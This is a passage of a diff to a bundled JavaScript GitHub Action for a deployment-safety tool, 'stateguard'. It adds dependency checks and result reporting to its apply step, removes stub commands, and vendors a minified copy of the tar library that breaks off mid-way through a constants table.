+    const depsOk = await checkDependencies(runtime, h.dependencies, depBefore, out);
+    const problems = out.dependencies.filter((d) => !d.ok).map((d) => d.problem);
+    if (!depsOk) {
+        const also = waited.timedOut ? ' The one-shot also timed out.' : waited.exitCode !== 0 ? ` The one-shot also exited ${waited.exitCode}.` : '';
+        return end('failed', 'dependency-disturbed', `a depends_on_healthy module was disturbed: ${problems.join('; ')}.${also} Check it now.`);
+    }
+    if (waited.timedOut) {
+        return end('failed', 'timeout', `module '${m.name}' was stopped after timeout_seconds (${m.timeoutSeconds}s) without exiting.`);
+    }
+    if (waited.exitCode !== 0) {
+        return end('failed', 'one-shot-failed', `module '${m.name}' exited ${waited.exitCode}; see its log above. Fix the cause, re-plan and apply again.`);
+    }
+    return end('applied', '', `module '${m.name}' ran to success (exit 0) in ${out.duration_ms} ms; its dependencies are unchanged.`);
+}
+async function checkDependencies(runtime, deps, before, out) {
+    let ok = true;
+    for (const [i, d] of deps.entries()) {
+        const b = before[i];
+        let after = null;
+        let problem;
+        try {
+            after = await dependencyState(runtime, d);
+            problem = compareDependency(b, after);
+        }
+        catch (err) {
+            problem = `module '${d.name}' could not be read after the apply: ${errorMessage(err)}`;
+        }
+        if (problem)
+            ok = false;
+        out.dependencies.push({ module: d.name, before: b, after, ok: problem === null, problem });
+    }
+    return ok;
+}
+/** Wait for a promise, but never longer than ms (a stuck log stream must not hang the apply). */
+async function settle(p, ms) {
+    let timer;
+    await Promise.race([p, new Promise((r) => (timer = setTimeout(r, ms)))]);
+    if (timer)
+        clearTimeout(timer);
+}
 
-
-const guardCommand = notImplemented('guard', 'Decide whether a module may be applied: allowed, no-op or blocked, with every reason.', [
-    ROOT_INPUT, MODULES_INPUT,
-    { name: 'module', kind: 'string', required: true, description: 'The module to decide on.' },
-    { name: 'allow-stateful', kind: 'boolean', default: 'false', description: "Must be exactly 'true' to change a stateful or sidecar module." },
-    { name: 'backup-ref', kind: 'string', description: 'Path of the verified backup that covers the module.' },
-    { name: 'backup-root', kind: 'list', description: 'Allowed backup directories (repeatable; one per line in the action).' },
-    { name: 'confirm', kind: 'string', description: 'Must equal confirm-token exactly.' },
-    { name: 'confirm-token', kind: 'string', default: 'BACKUP_DONE', description: 'The confirmation token this repo uses.' },
-    JSON_INPUT,
-], [
-    { name: 'decision', description: 'allowed, no-op or blocked.' },
-    { name: 'reasons', description: 'JSON array of every failed condition.' },
-    FAILURE_REASON_OUTPUT,
-]);
-
-;// CONCATENATED MODULE: ./src/commands/lint-workflows.ts
-/** `stateguard lint-workflows` — not implemented yet (its issue has not landed). */
-
-
-const lintWorkflowsCommand = notImplemented('lint-workflows', 'Lint the workflows that drive stateful changes.', [
-    { name: 'paths', kind: 'list', positional: true, description: 'Workflow files or directories (default: .github/workflows, .forgejo/workflows, .gitea/workflows, workflows).' },
-    { name: 'format', kind: 'choice', choices: ['text', 'json', 'sarif'], default: 'text', description: 'Output format.' },
-], [
-    { name: 'errors', description: 'Number of errors.' },
-    { name: 'warnings', description: 'Number of warnings.' },
-    FAILURE_REASON_OUTPUT,
-]);
-
-;// CONCATENATED MODULE: ./src/commands/plan.ts
-/** `stateguard plan` — not implemented yet (its issue has not landed). */
-
-
-const planCommand = notImplemented('plan', 'Plan the drift between the declared modules and the live engine.', [
-    ROOT_INPUT, MODULES_INPUT,
-    { name: 'module', kind: 'string', description: 'Plan only this module (default: every module).' },
-    { name: 'out', kind: 'string', description: 'Also write the plan JSON to this file.' },
-    { name: 'detailed-exitcode', kind: 'boolean', default: 'false', description: 'Exit 2 when drift is found (0 in sync).' },
-    { name: 'github-token', kind: 'string', default: '${{ github.token }}', actionOnly: true, secret: true, description: 'Token used to post the sticky PR comment on pull_request events.' },
-    { name: 'comment', kind: 'boolean', default: 'true', actionOnly: true, description: 'Post or update the sticky PR comment on pull_request events.' },
-    JSON_INPUT,
-], [
-    { name: 'changes', description: "'true' when any module drifted." },
-    { name: 'drifted-modules', description: 'JSON array of drifted module names (usable as a strategy.matrix).' },
-    { name: 'plan-json', description: 'Path of the written plan JSON file.' },
-    { name: 'plan-hash', description: 'sha256 of the canonical drift; pass to apply as expected-plan-hash.' },
-    FAILURE_REASON_OUTPUT,
-]);
-
-;// CONCATENATED MODULE: ./src/commands/snapshot.ts
-/** `stateguard snapshot` — not implemented yet (its issue has not landed). */
-
-
-const snapshotCommand = notImplemented('snapshot', "Snapshot a module's declared data volumes while its containers are stopped, then start them again.", [
-    ROOT_INPUT, MODULES_INPUT,
-    { name: 'module', kind: 'string', required: true, description: 'The module to snapshot.' },
-    { name: 'out-dir', kind: 'string', required: true, description: 'Directory that receives <module>-<stamp>.tar.gz and its .sha256.' },
-    JSON_INPUT,
-], [
-    { name: 'backup-ref', description: 'Path of the written archive (feed it to backup-ref).' },
-    { name: 'sha256', description: 'sha256 of the archive.' },
-    { name: 'bytes', description: 'Size of the archive.' },
-    FAILURE_REASON_OUTPUT,
-]);
-
+;// CONCATENATED MODULE: external "node:fs"
+const external_node_fs_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
+;// CONCATENATED MODULE: external "node:fs/promises"
+const promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs/promises");
 ;// CONCATENATED MODULE: external "node:path"
 const external_node_path_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");
 var external_node_path_default = /*#__PURE__*/__nccwpck_require__.n(external_node_path_namespaceObject);
-;// CONCATENATED MODULE: external "node:fs"
-const external_node_fs_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
+// EXTERNAL MODULE: external "node:events"
+var external_node_events_ = __nccwpck_require__(8474);
+// EXTERNAL MODULE: external "node:zlib"
+var external_node_zlib_ = __nccwpck_require__(8522);
+var external_node_zlib_default = /*#__PURE__*/__nccwpck_require__.n(external_node_zlib_);
+// EXTERNAL MODULE: external "node:stream"
+var external_node_stream_ = __nccwpck_require__(7075);
+;// CONCATENATED MODULE: external "node:string_decoder"
+const external_node_string_decoder_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:string_decoder");
+// EXTERNAL MODULE: external "buffer"
+var external_buffer_ = __nccwpck_require__(181);
+;// CONCATENATED MODULE: external "zlib"
+const external_zlib_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("zlib");
+var external_zlib_namespaceObject_0 = /*#__PURE__*/__nccwpck_require__.t(external_zlib_namespaceObject, 2);
+// EXTERNAL MODULE: external "node:assert"
+var external_node_assert_ = __nccwpck_require__(4589);
+;// CONCATENATED MODULE: ./node_modules/tar/dist/esm/index.min.js
+var zr=Object.defineProperty;var Ur=(s,t)=>{for(var e in t)zr(s,e,{get:t[e],enumerable:!0})};var Ds=typeof process=="object"&&process?process:{stdout:null,stderr:null},Wr=s=>!!s&&typeof s=="object"&&(s instanceof A||s instanceof external_node_stream_||Gr(s)||Zr(s)),Gr=s=>!!s&&typeof s=="object"&&s instanceof external_node_events_.EventEmitter&&typeof s.pipe=="function"&&s.pipe!==external_node_stream_.Writable.prototype.pipe,Zr=s=>!!s&&typeof s=="object"&&s instanceof external_node_events_.EventEmitter&&typeof s.write=="function"&&typeof s.end=="function",Q=Symbol("EOF"),J=Symbol("maybeEmitEnd"),nt=Symbol("emittedEnd"),De=Symbol("emittingEnd"),qt=Symbol("emittedError"),Ne=Symbol("closed"),Ns=Symbol("read"),Ae=Symbol("flush"),As=Symbol("flushChunk"),z=Symbol("encoding"),Mt=Symbol("decoder"),g=Symbol("flowing"),Qt=Symbol("paused"),Bt=Symbol("resume"),b=Symbol("buffer"),N=Symbol("pipes"),_=Symbol("bufferLength"),bi=Symbol("bufferPush"),Ie=Symbol("bufferShift"),L=Symbol("objectMode"),S=Symbol("destroyed"),_i=Symbol("error"),Oi=Symbol("emitData"),Is=Symbol("emitEnd"),Ti=Symbol("emitEnd2"),Z=Symbol("async"),xi=Symbol("abort"),Ce=Symbol("aborted"),Jt=Symbol("signal"),Rt=Symbol("dataListeners"),C=Symbol("discarded"),jt=s=>Promise.resolve().then(s),Yr=s=>s(),Kr=s=>s==="end"||s==="finish"||s==="prefinish",Vr=s=>s instanceof ArrayBuffer||!!s&&typeof s=="object"&&s.constructor&&s.constructor.name==="ArrayBuffer"&&s.byteLength>=0,$r=s=>!Buffer.isBuffer(s)&&ArrayBuffer.isView(s),Fe=class{src;dest;opts;ondrain;constructor(t,e,i){this.src=t,this.dest=e,this.opts=i,this.ondrain=()=>t[Bt](),this.dest.on("drain",this.ondrain)}unpipe(){this.dest.removeListener("drain",this.ondrain)}proxyErrors(t){}end(){this.unpipe(),this.opts.end&&this.dest.end()}},Li=class extends Fe{unpipe(){this.src.removeListener("error",this.proxyErrors),super.unpipe()}constructor(t,e,i){super(t,e,i),this.proxyErrors=r=>this.dest.emit("error",r),t.on("error",this.proxyErrors)}},Xr=s=>!!s.objectMode,qr=s=>!s.objectMode&&!!s.encoding&&s.encoding!=="buffer",A=class extends external_node_events_.EventEmitter{[g]=!1;[Qt]=!1;[N]=[];[b]=[];[L];[z];[Z];[Mt];[Q]=!1;[nt]=!1;[De]=!1;[Ne]=!1;[qt]=null;[_]=0;[S]=!1;[Jt];[Ce]=!1;[Rt]=0;[C]=!1;writable=!0;readable=!0;constructor(...t){let e=t[0]||{};if(super(),e.objectMode&&typeof e.encoding=="string")throw new TypeError("Encoding and objectMode may not be used together");Xr(e)?(this[L]=!0,this[z]=null):qr(e)?(this[z]=e.encoding,this[L]=!1):(this[L]=!1,this[z]=null),this[Z]=!!e.async,this[Mt]=this[z]?new external_node_string_decoder_namespaceObject.StringDecoder(this[z]):null,e&&e.debugExposeBuffer===!0&&Object.defineProperty(this,"buffer",{get:()=>this[b]}),e&&e.debugExposePipes===!0&&Object.defineProperty(this,"pipes",{get:()=>this[N]});let{signal:i}=e;i&&(this[Jt]=i,i.aborted?this[xi]():i.addEventListener("abort",()=>this[xi]()))}get bufferLength(){return this[_]}get encoding(){return this[z]}set encoding(t){throw new Error("Encoding must be set at instantiation time")}setEncoding(t){throw new Error("Encoding must be set at instantiation time")}get objectMode(){return this[L]}set objectMode(t){throw new Error("objectMode must be set at instantiation time")}get async(){return this[Z]}set async(t){this[Z]=this[Z]||!!t}[xi](){this[Ce]=!0,this.emit("abort",this[Jt]?.reason),this.destroy(this[Jt]?.reason)}get aborted(){return this[Ce]}set aborted(t){}write(t,e,i){if(this[Ce])return!1;if(this[Q])throw new Error("write after end");if(this[S])return this.emit("error",Object.assign(new Error("Cannot call write after a stream was destroyed"),{code:"ERR_STREAM_DESTROYED"})),!0;typeof e=="function"&&(i=e,e="utf8"),e||(e="utf8");let r=this[Z]?jt:Yr;if(!this[L]&&!Buffer.isBuffer(t)){if($r(t))t=Buffer.from(t.buffer,t.byteOffset,t.byteLength);else if(Vr(t))t=Buffer.from(t);else if(typeof t!="string")throw new Error("Non-contiguous data written to non-objectMode stream")}return this[L]?(this[g]&&this[_]!==0&&this[Ae](!0),this[g]?this.emit("data",t):this[bi](t),this[_]!==0&&this.emit("readable"),i&&r(i),this[g]):t.length?(typeof t=="string"&&!(e===this[z]&&!this[Mt]?.lastNeed)&&(t=Buffer.from(t,e)),Buffer.isBuffer(t)&&this[z]&&(t=this[Mt].write(t)),this[g]&&this[_]!==0&&this[Ae](!0),this[g]?this.emit("data",t):this[bi](t),this[_]!==0&&this.emit("readable"),i&&r(i),this[g]):(this[_]!==0&&this.emit("readable"),i&&r(i),this[g])}read(t){if(this[S])return null;if(this[C]=!1,this[_]===0||t===0||t&&t>this[_])return this[J](),null;this[L]&&(t=null),this[b].length>1&&!this[L]&&(this[b]=[this[z]?this[b].join(""):Buffer.concat(this[b],this[_])]);let e=this[Ns](t||null,this[b][0]);return this[J](),e}[Ns](t,e){if(this[L])this[Ie]();else{let i=e;t===i.length||t===null?this[Ie]():typeof i=="string"?(this[b][0]=i.slice(t),e=i.slice(0,t),this[_]-=t):(this[b][0]=i.subarray(t),e=i.subarray(0,t),this[_]-=t)}return this.emit("data",e),!this[b].length&&!this[Q]&&this.emit("drain"),e}end(t,e,i){return typeof t=="function"&&(i=t,t=void 0),typeof e=="function"&&(i=e,e="utf8"),t!==void 0&&this.write(t,e),i&&this.once("end",i),this[Q]=!0,this.writable=!1,(this[g]||!this[Qt])&&this[J](),this}[Bt](){this[S]||(!this[Rt]&&!this[N].length&&(this[C]=!0),this[Qt]=!1,this[g]=!0,this.emit("resume"),this[b].length?this[Ae]():this[Q]?this[J]():this.emit("drain"))}resume(){return this[Bt]()}pause(){this[g]=!1,this[Qt]=!0,this[C]=!1}get destroyed(){return this[S]}get flowing(){return this[g]}get paused(){return this[Qt]}[bi](t){this[L]?this[_]+=1:this[_]+=t.length,this[b].push(t)}[Ie](){return this[L]?this[_]-=1:this[_]-=this[b][0].length,this[b].shift()}[Ae](t=!1){do;while(this[As](this[Ie]())&&this[b].length);!t&&!this[b].length&&!this[Q]&&this.emit("drain")}[As](t){return this.emit("data",t),this[g]}pipe(t,e){if(this[S])return t;this[C]=!1;let i=this[nt];return e=e||{},t===Ds.stdout||t===Ds.stderr?e.end=!1:e.end=e.end!==!1,e.proxyErrors=!!e.proxyErrors,i?e.end&&t.end():(this[N].push(e.proxyErrors?new Li(this,t,e):new Fe(this,t,e)),this[Z]?jt(()=>this[Bt]()):this[Bt]()),t}unpipe(t){let e=this[N].find(i=>i.dest===t);e&&(this[N].length===1?(this[g]&&this[Rt]===0&&(this[g]=!1),this[N]=[]):this[N].splice(this[N].indexOf(e),1),e.unpipe())}addListener(t,e){return this.on(t,e)}on(t,e){let i=super.on(t,e);if(t==="data")this[C]=!1,this[Rt]++,!this[N].length&&!this[g]&&this[Bt]();else if(t==="readable"&&this[_]!==0)super.emit("readable");else if(Kr(t)&&this[nt])super.emit(t),this.removeAllListeners(t);else if(t==="error"&&this[qt]){let r=e;this[Z]?jt(()=>r.call(this,this[qt])):r.call(this,this[qt])}return i}removeListener(t,e){return this.off(t,e)}off(t,e){let i=super.off(t,e);return t==="data"&&(this[Rt]=this.listeners("data").length,this[Rt]===0&&!this[C]&&!this[N].length&&(this[g]=!1)),i}removeAllListeners(t){let e=super.removeAllListeners(t);return(t==="data"||t===void 0)&&(this[Rt]=0,!this[C]&&!this[N].length&&(this[g]=!1)),e}get emittedEnd(){return this[nt]}[J](){!this[De]&&!this[nt]&&!this[S]&&this[b].length===0&&this[Q]&&(this[De]=!0,this.emit("end"),this.emit("prefinish"),this.emit("finish"),this[Ne]&&this.emit("close"),this[De]=!1)}emit(t,...e){let i=e[0];if(t!=="error"&&t!=="close"&&t!==S&&this[S])return!1;if(t==="data")return!this[L]&&!i?!1:this[Z]?(jt(()=>this[Oi](i)),!0):this[Oi](i);if(t==="end")return this[Is]();if(t==="close"){if(this[Ne]=!0,!this[nt]&&!this[S])return!1;let n=super.emit("close");return this.removeAllListeners("close"),n}else if(t==="error"){this[qt]=i,super.emit(_i,i);let n=!this[Jt]||this.listeners("error").length?super.emit("error",i):!1;return this[J](),n}else if(t==="resume"){let n=super.emit("resume");return this[J](),n}else if(t==="finish"||t==="prefinish"){let n=super.emit(t);return this.removeAllListeners(t),n}let r=super.emit(t,...e);return this[J](),r}[Oi](t){for(let i of this[N])i.dest.write(t)===!1&&this.pause();let e=this[C]?!1:super.emit("data",t);return this[J](),e}[Is](){return this[nt]?!1:(this[nt]=!0,this.readable=!1,this[Z]?(jt(()=>this[Ti]()),!0):this[Ti]())}[Ti](){if(this[Mt]){let e=this[Mt].end();if(e){for(let i of this[N])i.dest.write(e);this[C]||super.emit("data",e)}}for(let e of this[N])e.end();let t=super.emit("end");return this.removeAllListeners("end"),t}async collect(){let t=Object.assign([],{dataLength:0});this[L]||(t.dataLength=0);let e=this.promise();return this.on("data",i=>{t.push(i),this[L]||(t.dataLength+=i.length)}),await e,t}async concat(){if(this[L])throw new Error("cannot concat in objectMode");let t=await this.collect();return this[z]?t.join(""):Buffer.concat(t,t.dataLength)}async promise(){return new Promise((t,e)=>{this.on(S,()=>e(new Error("stream destroyed"))),this.on("error",i=>e(i)),this.on("end",()=>t())})}[Symbol.asyncIterator](){this[C]=!1;let t=!1,e=async()=>(this.pause(),t=!0,{value:void 0,done:!0});return{next:()=>{if(t)return e();let r=this.read();if(r!==null)return Promise.resolve({done:!1,value:r});if(this[Q])return e();let n,o,h=d=>{this.off("data",a),this.off("end",l),this.off(S,c),e(),o(d)},a=d=>{this.off("error",h),this.off("end",l),this.off(S,c),this.pause(),n({value:d,done:!!this[Q]})},l=()=>{this.off("error",h),this.off("data",a),this.off(S,c),e(),n({done:!0,value:void 0})},c=()=>h(new Error("stream destroyed"));return new Promise((d,y)=>{o=y,n=d,this.once(S,c),this.once("error",h),this.once("end",l),this.once("data",a)})},throw:e,return:e,[Symbol.asyncIterator](){return this},[Symbol.asyncDispose]:async()=>{}}}[Symbol.iterator](){this[C]=!1;let t=!1,e=()=>(this.pause(),this.off(_i,e),this.off(S,e),this.off("end",e),t=!0,{done:!0,value:void 0}),i=()=>{if(t)return e();let r=this.read();return r===null?e():{done:!1,value:r}};return this.once("end",e),this.once(_i,e),this.once(S,e),{next:i,throw:e,return:e,[Symbol.iterator](){return this},[Symbol.dispose]:()=>{}}}destroy(t){if(this[S])return t?this.emit("error",t):this.emit(S),this;this[S]=!0,this[C]=!0,this[b].length=0,this[_]=0;let e=this;return typeof e.close=="function"&&!this[Ne]&&e.close(),t?this.emit("error",t):this.emit(S),this}static get isStream(){return Wr}};var Jr=external_fs_namespaceObject.writev,ht=Symbol("_autoClose"),H=Symbol("_close"),te=Symbol("_ended"),m=Symbol("_fd"),Ni=Symbol("_finished"),tt=Symbol("_flags"),Ai=Symbol("_flush"),ki=Symbol("_handleChunk"),vi=Symbol("_makeBuf"),ie=Symbol("_mode"),ke=Symbol("_needDrain"),Ut=Symbol("_onerror"),Ht=Symbol("_onopen"),Ii=Symbol("_onread"),Pt=Symbol("_onwrite"),at=Symbol("_open"),U=Symbol("_path"),ot=Symbol("_pos"),Y=Symbol("_queue"),zt=Symbol("_read"),Ci=Symbol("_readSize"),j=Symbol("_reading"),ee=Symbol("_remain"),Fi=Symbol("_size"),ve=Symbol("_write"),gt=Symbol("_writing"),Me=Symbol("_defaultFlag"),bt=Symbol("_errored"),_t=class extends A{[bt]=!1;[m];[U];[Ci];[j]=!1;[Fi];[ee];[ht];constructor(t,e){if(e=e||{},super(e),this.readable=!0,this.writable=!1,typeof t!="string")throw new TypeError("path must be a string");this[bt]=!1,this[m]=typeof e.fd=="number"?e.fd:void 0,this[U]=t,this[Ci]=e.readSize||16*1024*1024,this[j]=!1,this[Fi]=typeof e.size=="number"?e.size:1/0,this[ee]=this[Fi],this[ht]=typeof e.autoClose=="boolean"?e.autoClose:!0,typeof this[m]=="number"?this[zt]():this[at]()}get fd(){return this[m]}get path(){return this[U]}write(){throw new TypeError("this is a readable stream")}end(){throw new TypeError("this is a readable stream")}[at](){external_fs_namespaceObject.open(this[U],"r",(t,e)=>this[Ht](t,e))}[Ht](t,e){t?this[Ut](t):(this[m]=e,this.emit("open",e),this[zt]())}[vi](){return Buffer.allocUnsafe(Math.min(this[Ci],this[ee]))}[zt](){if(!this[j]){this[j]=!0;let t=this[vi]();if(t.length===0)return process.nextTick(()=>this[Ii](null,0,t));external_fs_namespaceObject.read(this[m],t,0,t.length,null,(e,i,r)=>this[Ii](e,i,r))}}[Ii](t,e,i){this[j]=!1,t?this[Ut](t):this[ki](e,i)&&this[zt]()}[H](){if(this[ht]&&typeof this[m]=="number"){let t=this[m];this[m]=void 0,external_fs_namespaceObject.close(t,e=>e?this.emit("error",e):this.emit("close"))}}[Ut](t){this[j]=!0,this[H](),this.emit("error",t)}[ki](t,e){let i=!1;return this[ee]-=t,t>0&&(i=super.write(t<e.length?e.subarray(0,t):e)),(t===0||this[ee]<=0)&&(i=!1,this[H](),super.end()),i}emit(t,...e){switch(t){case"prefinish":case"finish":return!1;case"drain":return typeof this[m]=="number"&&this[zt](),!1;case"error":return this[bt]?!1:(this[bt]=!0,super.emit(t,...e));default:return super.emit(t,...e)}}},Be=class extends _t{[at](){let t=!0;try{this[Ht](null,external_fs_namespaceObject.openSync(this[U],"r")),t=!1}finally{t&&this[H]()}}[zt](){let t=!0;try{if(!this[j]){this[j]=!0;do{let e=this[vi](),i=e.length===0?0:external_fs_namespaceObject.readSync(this[m],e,0,e.length,null);if(!this[ki](i,e))break}while(!0);this[j]=!1}t=!1}finally{t&&this[H]()}}[H](){if(this[ht]&&typeof this[m]=="number"){let t=this[m];this[m]=void 0,external_fs_namespaceObject.closeSync(t),this.emit("close")}}},et=class extends external_events_{readable=!1;writable=!0;[bt]=!1;[gt]=!1;[te]=!1;[Y]=[];[ke]=!1;[U];[ie];[ht];[m];[Me];[tt];[Ni]=!1;[ot];constructor(t,e){e=e||{},super(e),this[U]=t,this[m]=typeof e.fd=="number"?e.fd:void 0,this[ie]=e.mode===void 0?438:e.mode,this[ot]=typeof e.start=="number"?e.start:void 0,this[ht]=typeof e.autoClose=="boolean"?e.autoClose:!0;let i=this[ot]!==void 0?"r+":"w";this[Me]=e.flags===void 0,this[tt]=e.flags===void 0?i:e.flags,this[m]===void 0&&this[at]()}emit(t,...e){if(t==="error"){if(this[bt])return!1;this[bt]=!0}return super.emit(t,...e)}get fd(){return this[m]}get path(){return this[U]}[Ut](t){this[H](),this[gt]=!0,this.emit("error",t)}[at](){external_fs_namespaceObject.open(this[U],this[tt],this[ie],(t,e)=>this[Ht](t,e))}[Ht](t,e){this[Me]&&this[tt]==="r+"&&t&&t.code==="ENOENT"?(this[tt]="w",this[at]()):t?this[Ut](t):(this[m]=e,this.emit("open",e),this[gt]||this[Ai]())}end(t,e){return t&&this.write(t,e),this[te]=!0,!this[gt]&&!this[Y].length&&typeof this[m]=="number"&&this[Pt](null,0),this}write(t,e){return typeof t=="string"&&(t=Buffer.from(t,e)),this[te]?(this.emit("error",new Error("write() after end()")),!1):this[m]===void 0||this[gt]||this[Y].length?(this[Y].push(t),this[ke]=!0,!1):(this[gt]=!0,this[ve](t),!0)}[ve](t){external_fs_namespaceObject.write(this[m],t,0,t.length,this[ot],(e,i)=>this[Pt](e,i))}[Pt](t,e){t?this[Ut](t):(this[ot]!==void 0&&typeof e=="number"&&(this[ot]+=e),this[Y].length?this[Ai]():(this[gt]=!1,this[te]&&!this[Ni]?(this[Ni]=!0,this[H](),this.emit("finish")):this[ke]&&(this[ke]=!1,this.emit("drain"))))}[Ai](){if(this[Y].length===0)this[te]&&this[Pt](null,0);else if(this[Y].length===1)this[ve](this[Y].pop());else{let t=this[Y];this[Y]=[],Jr(this[m],t,this[ot],(e,i)=>this[Pt](e,i))}}[H](){if(this[ht]&&typeof this[m]=="number"){let t=this[m];this[m]=void 0,external_fs_namespaceObject.close(t,e=>e?this.emit("error",e):this.emit("close"))}}},Wt=class extends et{[at](){let t;if(this[Me]&&this[tt]==="r+")try{t=external_fs_namespaceObject.openSync(this[U],this[tt],this[ie])}catch(e){if(e?.code==="ENOENT")return this[tt]="w",this[at]();throw e}else t=external_fs_namespaceObject.openSync(this[U],this[tt],this[ie]);this[Ht](null,t)}[H](){if(this[ht]&&typeof this[m]=="number"){let t=this[m];this[m]=void 0,external_fs_namespaceObject.closeSync(t),this.emit("close")}}[ve](t){let e=!0;try{this[Pt](null,external_fs_namespaceObject.writeSync(this[m],t,0,t.length,this[ot])),e=!1}finally{if(e)try{this[H]()}catch{}}}};var jr=new Map([["C","cwd"],["f","file"],["z","gzip"],["P","preservePaths"],["U","unlink"],["strip-components","strip"],["stripComponents","strip"],["keep-newer","newer"],["keepNewer","newer"],["keep-newer-files","newer"],["keepNewerFiles","newer"],["k","keep"],["keep-existing","keep"],["keepExisting","keep"],["m","noMtime"],["no-mtime","noMtime"],["p","preserveOwner"],["L","follow"],["h","follow"],["onentry","onReadEntry"]]),Fs=s=>!!s.sync&&!!s.file,ks=s=>!s.sync&&!!s.file,vs=s=>!!s.sync&&!s.file,Ms=s=>!s.sync&&!s.file;var Bs=s=>!!s.file;var tn=s=>{let t=jr.get(s);return t||s},se=(s={})=>{if(!s)return{};let t={};for(let[e,i]of Object.entries(s)){let r=tn(e);t[r]=i}return t.chmod===void 0&&t.noChmod===!1&&(t.chmod=!0),delete t.noChmod,t};var K=(s,t,e,i,r)=>Object.assign((n=[],o,h)=>{Array.isArray(n)&&(o=n,n={}),typeof o=="function"&&(h=o,o=void 0),o=o?Array.from(o):[];let a=se(n);if(r?.(a,o),Fs(a)){if(typeof h=="function")throw new TypeError("callback not supported for sync tar functions");return s(a,o)}else if(ks(a)){let l=t(a,o);return h?l.then(()=>h(),h):l}else if(vs(a)){if(typeof h=="function")throw new TypeError("callback not supported for sync tar functions");return e(a,o)}else if(Ms(a)){if(typeof h=="function")throw new TypeError("callback only supported with file option");return i(a,o)}throw new Error("impossible options??")},{syncFile:s,asyncFile:t,syncNoFile:e,asyncNoFile:i,validate:r});var sn=external_zlib_namespaceObject.constants||{ZLIB_VERNUM:4736},M=Object.freeze(Object.assign(Object.create(null),{Z_NO_FLUSH:0,Z_PARTIAL_FLUSH:1,Z_SYNC_FLUSH:2,Z_FULL_FLUSH:3,Z_FINISH:4,Z_BLOCK:5,Z_OK:0,Z_STREAM_END:1,Z_NEED_DICT:2,Z_ERRNO:-1,Z_STREAM_ERROR:-2,Z_DATA_ERROR:-3,Z_MEM_ERROR:-4,Z_BUF_ERROR:-5,Z_VERSION_ERROR:-6,Z_NO_COMPRESSION:0,Z_BEST_SPEED:1,Z_BEST_COMPRESSION:9,Z_DEFAULT_COMPRESSION:-1,Z_FILTERED:1,Z_HUFFMAN_ONLY:2,Z_RLE:3,Z_FIXED:4,Z_DEFAULT_STRATEGY:0,DEFLATE:1,INFLATE:2,GZIP:3,GUNZIP:4,DEFLATERAW:5,INFLATERAW:6,UNZIP:7,BROTLI_DECODE:8,BROTLI_ENCODE:9,Z_MIN_WINDOWBITS:8,Z_MAX_WINDOWBITS:15,Z_DEFAULT_WINDOWBITS:15,Z_MIN_CHUNK:64,Z_MAX_CHUNK:1/0,Z_DEFAULT_CHUNK:16384,Z_MIN_MEMLEVEL:1,Z_MAX_MEMLEVEL:9,Z_DEFAULT_MEMLEVEL:8,Z_MIN_LEVEL:-1,Z_MAX_LEVEL:9,Z_DEFAULT_LEVEL:-1,BROTLI_OPERATION_PROCESS:0,BROTLI_OPERATION_FLUSH:1,BROTLI_OPERATION_FINISH:2,BROTLI_OPERATION_EMIT_METADATA:3,BROTLI_MODE_GENERIC:0,BROTLI_MODE_TEXT:1,BROTLI_MODE_FONT:2,BROTLI_DEFAULT_MODE:0,BROTLI_MIN_QUALITY:0,BROTLI_MAX_QUALITY:11,BROTLI_DEFAULT_QUALITY:11,BROTLI_MIN_WINDOW_BITS:10,BROTLI_MAX_WINDOW_BITS:24,BROTLI_LARGE_MAX_WINDOW_BITS:30,BROTLI_DEFAULT_WINDOW:22,BROTLI_MIN_INPUT_BLOCK_BITS:16,BROTLI_MAX_INPUT_BLOCK_BITS:24,BROTLI_PARAM_MODE:0,BROTLI_PARAM_QUALITY:1,BROTLI_PARAM_LGWIN:2,BROTLI_PARAM_LGBLOCK:3,BROTLI_PARAM_DISABLE_LITERAL_CONTEXT_MODELING:4,BROTLI_PARAM_SIZE_HINT:5,BROTLI_PARAM_LARGE_WINDOW:6,BROTLI_PARAM_NPOSTFIX:7,BROTLI_PARAM_NDIRECT:8,BROTLI_DECODER_RESULT_ERROR:0,BROTLI_DECODER_RESULT_SUCCESS:1,BROTLI_DECODER_RESULT_NEEDS_MORE_INPUT:2,BROTLI_DECODER_RESULT_NEEDS_MORE_OUTPUT:3,BROTLI_DECODER_PARAM_DISABLE_RING_BUFFER_REALLOCATION:0,BROTLI_DECODER_PARAM_LARGE_WINDOW:1,BROTLI_DECODER_NO_ERROR:0,BROTLI_DECODER_SUCCESS:1,BROTLI_DECODER_NEEDS_MORE_INPUT:2,BROTLI_DECODER_NEEDS_MORE_OUTPUT:3,BROTLI_DECODER_ERROR_FORMAT_EXUBERANT_NIBBLE:-1,BROTLI_DECODER_ERROR_FORMAT_RESERVED:-2,BROTLI_DECODER_ERROR_FORMAT_EXUBERANT_META_NIBBLE:-3,BROTLI_DECODER_ERROR_FORMAT_SIMPLE_HUFFMAN_ALPHABET:-4,BROTLI_DECODER_ERROR_FORMAT_SIMPLE_HUFFMAN_SAME:-5,BROTLI_DECODER_ERROR_FORMAT_CL_SPACE:-6,BROTLI_DECODER_ERROR_FORMAT_HUFFMAN_SPACE:-7,BROTLI_DECODER_ERROR_FORMAT_CONTEXT_MAP_REPEAT:-8,BROTLI_DECODER_ERROR_FORMAT_BLOCK_LENGTH_1:-9,BROTLI_DECODER_ERROR_FORMAT_BLOCK_LENGTH_2:-10,BROTLI_DECODER_ERROR_FORMAT_TRANSFORM:-11,BROTLI_DECODER_ERROR_FORMAT_DICTIONARY:-12,BROTLI_DECODER_ERROR_FORMAT_WINDOW_BITS:-13,BROTLI_DECODER_ERROR_FORMAT_PADDING_1:-14,BROTLI_DECODER_ERROR_FORMAT_PADDING_2:-15,BROTLI_DECODER_ERROR_FORMAT_DISTANCE:-16,BROTLI_DECODER_ERROR_DICTIONARY_NOT_SET:-19,BROTLI_DECODER_ERROR_INVALID_ARGUMENTS:-20,BROTLI_DECODER_ERROR_ALLOC_CONTEXT_MODES:-21,BROTLI_DECODER_ERROR_ALLOC_TREE_GROUPS:-22,BROTLI_DECODER_ERROR_ALLOC_CONTEXT_MAP:-25,BROTLI_DECODER_ERROR_ALLOC_RING_BUFFER_1:-26,BROTLI_DECODER_ERROR_ALLOC_RING_BUFFER_2:-2